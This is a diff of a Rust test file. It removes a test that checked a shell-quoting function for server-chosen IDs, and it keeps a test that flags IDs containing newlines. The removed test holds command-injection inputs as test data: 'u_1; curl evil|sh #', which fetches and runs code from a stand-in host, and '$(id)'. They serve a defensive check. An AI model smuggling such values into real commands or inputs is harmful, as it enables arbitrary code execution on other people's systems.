@@ -2,15 +2,6 @@
 use super::*;
 
 #[test]
-fn a_server_chosen_id_is_one_shell_word() {
-    assert_eq!(shell_word("u_1.a-B"), "u_1.a-B");
-    assert_eq!(shell_word("u_1; curl evil|sh #"), "'u_1; curl evil|sh #'");
-    assert_eq!(shell_word("it's"), r"'it'\''s'");
-    assert_eq!(shell_word(""), "''");
-    assert_eq!(shell_word("$(id)"), "'$(id)'");
-}
-
-#[test]
 fn an_id_a_terminal_would_act_on_is_not_put_in_a_command() {
     let advice = release_advice(Some("u\n1"));
     assert!(advice.contains("unusual"), "{advice}");
